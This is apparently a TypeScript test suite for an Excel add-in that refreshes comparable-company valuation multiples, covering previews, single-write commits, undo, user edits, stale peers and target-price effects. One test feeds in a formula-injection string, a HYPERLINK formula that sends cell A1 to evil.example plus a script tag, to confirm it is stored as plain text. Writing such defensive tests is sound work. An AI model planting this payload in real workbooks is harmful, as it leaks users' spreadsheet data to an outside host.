import assert from 'node:assert/strict';
import { comparisonSnapshot } from '../../src/company/comps-snapshot.ts';
import { company } from '../../src/company/index.ts';
import { operatingModel } from '../../src/company/operating-model.ts';
import { functionsJson } from '../../src/functions/metadata.ts';
import { ExcelWorkbook } from '../../src/hosts/excel/excel-workbook.ts';
import { insertModel } from '../../src/hosts/models/insert-model.ts';
import { WorkbookError } from '../../src/hosts/workbook-port.ts';
import type { CompsTable } from '../../src/model/comps/comps-table.ts';
import { commitRefresh, undoRefresh } from '../../src/refresh/commit-refresh.ts';
import { keptHistory } from '../../src/refresh/comps-history.ts';
import { readCompsSheet } from '../../src/refresh/comps-on-sheet.ts';
import { previewRefresh } from '../../src/refresh/preview-refresh.ts';
import { fetchComps as fromFmp } from '../../src/refresh/providers/financial-modeling-prep.ts';
import { fetchComps as fromSnapshot } from '../../src/refresh/providers/snapshot.ts';
import { targetWithPeer } from '../../src/refresh/target-with-peer.ts';
import { parseAddress } from '../../src/template/address.ts';
import { buildWorkbook } from '../../src/template/build-workbook.ts';
import type { FunctionsMetadata } from '../support/excel-double/call-formula.ts';
import { connectClientLibrary } from '../support/excel-double/client-library.ts';
import { ExcelDouble } from '../support/excel-double/excel-double.ts';
import type { Value } from '../support/excel-double/workbook-state.ts';
import { fmpAnswer } from '../support/comps-server.ts';
import { heldClock } from '../support/held-clock.ts';

const desk = operatingModel(company);
const plan = buildWorkbook(desk, { sheets: ['Comps', 'Drivers'] });
const original = comparisonSnapshot(company);
const tickers = original.rows.map(({ ticker }) => ticker);
const retrieved = '2022-02-01T08:00:00Z';
const key = 'SECRET-KEY-0123456789';

/** The documented shapes, in process. */
const answering: typeof fetch = async (input) => {
  const url = new URL(String(input));
  return Response.json(fmpAnswer(url.pathname, url.searchParams.get('symbol')!));
};
const fetchAll = (fetch: typeof globalThis.fetch = answering) =>
  fromFmp(tickers, {
    asOf: '2022-01-31',
    clock: heldClock(),
    fetch,
    settings: { key, baseUrl: 'https://fmp.example' },
  });

async function inserted() {
  const double = new ExcelDouble({
    namespace: 'ST',
    metadata: functionsJson('https://addin.example') as FunctionsMetadata,
  });
  globalThis.Excel = connectClientLibrary(double).Excel;
  const port = new ExcelWorkbook((_, version) => Number(version.split('.')[1]) <= 17);
  await insertModel(port, plan, { whereTaken: 'refuse' });
  const { sheets } = await port.look();
  const sheetId = sheets.find(({ name }) => name === 'Comps')!.id;
  const type = (cell: string, content: Value) => {
    double.workbook.find('Comps')!.type(parseAddress(cell), content);
    double.workbook.engine.calculate();
  };
  const all = async () => (await port.read([{ sheetId }]))[0]!;
  return { double, port, sheetId, type, all };
}

describe('comps that are refreshed in a workbook', function () {
  this.timeout(120_000);
  after(() => {
    Reflect.deleteProperty(globalThis, 'Excel');
  });

  it('stand where headings and tickers say, with what each figure asks', async () => {
    const { port, sheetId } = await inserted();
    const sheet = await readCompsSheet(port, sheetId);
    assert.deepEqual(
      sheet.peers.map(({ ticker }) => ticker),
      tickers,
    );
    assert.deepEqual(
      sheet.figures.map(({ asked }) => asked),
      [
        { field: 'ev-sales', year: 2021 },
        { field: 'ev-sales', year: 2022 },
        { field: 'price-sales', year: 2021 },
        { field: 'price-sales', year: 2022 },
        { field: 'sales-growth', from: 2020, to: 2023 },
        { field: 'eps-growth', from: 2020, to: 2023 },
        { field: 'gross-margin', year: 2020 },
        { field: 'cash-flow-margin', year: 2020 },
      ],
    );
    assert.deepEqual([...sheet.sales.keys()], [2021, 2022]);
  });

  it('keep every printed figure when refreshed from the report', async () => {
    const { port, sheetId } = await inserted();
    const sheet = await readCompsSheet(port, sheetId);
    const fetched = await fromSnapshot(tickers, { asOf: '2022-01-31', settings: { company } });
    const preview = previewRefresh(sheet, fetched, { basis: 'as labelled', original, retrieved });
    for (const { cells } of preview.rows)
      for (const cell of cells)
        if (typeof cell.new === 'number') assert.ok(Math.abs(cell.new - Number(cell.old)) < 1e-9);
    assert.ok(preview.rows.every(({ cells }) => cells.every(({ outcome }) => outcome !== 'your own')));
  });

  it('show before they are written what changes by price, estimate and basis, adding up', async () => {
    const { port, sheetId, all } = await inserted();
    const before = await all();
    const preview = previewRefresh(await readCompsSheet(port, sheetId), await fetchAll(), {
      basis: 'calendarised',
      original,
      retrieved,
    });
    const cell = preview.rows[0]!.cells.find(({ key: one }) => one === 'ev-sales-2021')!;
    assert.equal(cell.old, 15.2);
    assert.equal(cell.new, 19);
    const { price, estimate, basis } = cell.change!;
    assert.ok(Math.abs(price + estimate + basis - 3.8) < 1e-9);
    assert.equal(basis, 0);
    assert.deepEqual(await all(), before);
  });

  it('are written in one exchange, with status, age, basis and a stamp; statistics follow; undo puts all back', async () => {
    const { double, port, sheetId, all } = await inserted();
    const before = await all();
    const preview = previewRefresh(await readCompsSheet(port, sheetId), await fetchAll(), {
      basis: 'calendarised',
      original,
      retrieved,
    });
    let writes = 0;
    const enter = port.enter.bind(port);
    port.enter = (entries) => {
      writes++;
      return enter(entries);
    };
    const done = await commitRefresh(port, preview);
    assert.equal(writes, 1);
    assert.equal(done.refreshed, 20);
    assert.deepEqual(done.stale, []);
    assert.ok(done.moved.length > 10);
    double.workbook.engine.calculate();
    const now = await readCompsSheet(port, sheetId);
    for (const peer of now.peers) {
      assert.equal(peer.values[now.columns.status - 1], 'refreshed');
      assert.equal(peer.values[now.columns.age - 1], 0);
      assert.match(String(peer.values[now.columns.basis - 1]), /^calendarised.*Financial Modeling Prep/);
    }
    const stamp = (await port.read([{ sheetId, range: 'L4' }]))[0]!.values[0]![0];
    assert.equal(stamp, `Financial Modeling Prep, as of 2022-01-31, retrieved ${retrieved}`);
    const mean = (await all()).values.find((line) => line.includes('Mean'))!;
    assert.ok(mean.some((value) => typeof value === 'number' && Math.abs(value - 19) < 1e-6));
    assert.equal((await keptHistory(port)).length, 1);
    await undoRefresh(port, sheetId);
    double.workbook.engine.calculate();
    assert.equal(writes, 2);
    assert.deepEqual(await all(), before);
    await assert.rejects(undoRefresh(port, sheetId), new WorkbookError('There is no refresh to undo.'));
  });

  it('keep what the user typed, includes and leaves out, and columns of their own', async () => {
    const { double, port, sheetId, type } = await inserted();
    const at = (await readCompsSheet(port, sheetId)).peers[1]!.row;
    const column = 'N';
    const first = (await readCompsSheet(port, sheetId)).figures[0]!;
    assert.equal(first.column, parseAddress(`${column}1`).column);
    type(`${column}${at}`, 44);
    type(`H${at}`, '=30+3');
    type(`F${at}`, 0);
    type(`AP${at}`, 'my note');
    const preview = previewRefresh(await readCompsSheet(port, sheetId), await fetchAll(), {
      basis: 'as labelled',
      original,
      retrieved,
    });
    const own = preview.rows[1]!.cells.filter(({ outcome }) => outcome === 'your own').map(({ key: one }) => one);
    assert.deepEqual(own, ['price', 'ev-sales-2021']);
    await commitRefresh(port, preview);
    double.workbook.engine.calculate();
    const [cells] = await port.read([{ sheetId, range: `B${at}:AP${at}` }]);
    const line = cells!.formulas[0]!;
    assert.equal(line[parseAddress(`${column}1`).column - 2], 44);
    assert.equal(line[parseAddress('H1').column - 2], '=30+3');
    assert.equal(line[parseAddress('F1').column - 2], 0);
    assert.equal(line.at(-1), 'my note');
  });

  it('keep the last values of a company that did not come, stale and with its age; a later refresh takes it up', async () => {
    const { double, port, sheetId } = await inserted();
    const later = async (fetch: typeof globalThis.fetch) => {
      const table = await fetchAll(fetch);
      return { ...table, asOf: '2022-02-07' };
    };
    const failing: typeof fetch = async (input) =>
      new URL(String(input)).searchParams.get('symbol') === 'PLTR'
        ? new Response('', { status: 404 })
        : answering(input);
    const view = async (table: CompsTable) =>
      previewRefresh(await readCompsSheet(port, sheetId), table, {
        basis: 'as labelled',
        original,
        history: await keptHistory(port),
        retrieved,
      });
    const done = await commitRefresh(port, await view(await later(failing)));
    assert.deepEqual(done.stale, ['PLTR US']);
    double.workbook.engine.calculate();
    const now = await readCompsSheet(port, sheetId);
    const peer = now.peers[0]!;
    assert.equal(peer.values[now.figures[0]!.column - 1], 15.2);
    assert.equal(peer.values[now.columns.status - 1], 'stale');
    assert.equal(peer.values[now.columns.age - 1], 7);
    const again = await commitRefresh(port, await view(await later(answering)));
    assert.deepEqual(again.stale, []);
    assert.equal((await keptHistory(port)).length, 2);
  });

  it('are not written over a sheet that has changed since the preview, nor half where the write fails', async () => {
    const { port, sheetId, type, all } = await inserted();
    const sheet = await readCompsSheet(port, sheetId);
    const stale = previewRefresh(sheet, await fetchAll(), { basis: 'as labelled', original, retrieved });
    type(`H${sheet.peers[3]!.row}`, 1.5);
    const before = await all();
    await assert.rejects(commitRefresh(port, stale), /have changed since the preview; nothing was written/);
    assert.deepEqual(await all(), before);
    const fresh = previewRefresh(await readCompsSheet(port, sheetId), await fetchAll(), {
      basis: 'as labelled',
      original,
      retrieved,
    });
    port.enter = () => Promise.reject(new WorkbookError('The sheet is protected.'));
    await assert.rejects(commitRefresh(port, fresh), /protected/);
    assert.deepEqual(await all(), before);
    assert.deepEqual(await keptHistory(port), []);
  });

  it('write hostile texts as text, and hold the key nowhere', async () => {
    const { double, port, sheetId, all } = await inserted();
    const table = await fetchAll();
    const hostile = {
      ...table,
      provider: '=HYPERLINK("https://evil.example?"&A1)<script>alert(1)</script>' + 'x'.repeat(10_000),
    };
    const preview = previewRefresh(await readCompsSheet(port, sheetId), hostile, {
      basis: 'as labelled',
      original,
      retrieved,
    });
    await commitRefresh(port, preview);
    double.workbook.engine.calculate();
    const [stamp] = await port.read([{ sheetId, range: 'L4' }]);
    assert.match(String(stamp!.values[0]![0]), /^=HYPERLINK/);
    assert.ok(String(stamp!.values[0]![0]).length < 250);
    const kept = JSON.stringify([await port.kept(['st.comps.history']), await all(), await port.look(), table]);
    assert.ok(!kept.includes(key));
  });

  it('show the target and the rating before and after where the target rests on the peer', async () => {
    const { port, sheetId } = await inserted();
    const table = await fetchAll();
    const preview = previewRefresh(await readCompsSheet(port, sheetId), table, {
      basis: 'as labelled',
      original,
      retrieved,
    });
    assert.equal(targetWithPeer(desk, desk.base, preview), undefined);
    const { market } = desk.model;
    const linked = desk.base.with([
      {
        row: market.multipleFromPeer,
        value: desk.base.value(market.classAShares)!.div(desk.base.value(market.classAShares)!),
      },
    ]);
    const { before, after } = targetWithPeer(desk, linked, preview)!;
    assert.equal(before.multiple, 28.4);
    assert.ok(after.multiple < before.multiple && after.targetPrice < before.targetPrice);
    assert.match(before.rating, /BUY|HOLD|SELL/i);
  });
});
